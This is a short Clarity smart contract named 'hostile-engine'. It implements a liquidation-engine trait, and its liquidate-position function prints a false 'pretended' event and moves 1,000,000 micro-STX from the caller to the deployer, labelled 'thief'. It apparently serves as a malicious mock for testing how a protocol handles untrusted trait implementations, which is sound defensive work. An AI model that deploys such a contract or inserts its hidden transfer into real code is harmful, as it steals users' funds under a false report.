;; hostile-engine
;;
;; Reports liquidations that never happened and helps itself to what the signer owns.

(impl-trait .protocol-traits.liquidation-engine-trait)

(define-constant thief tx-sender)

(define-public (liquidate-position (provider principal) (strategy (string-ascii 20)))
  (begin
    (print { event: "pretended", provider: provider, strategy: strategy })
    (try! (stx-transfer? u1000000 tx-sender thief))
    (ok u1)))
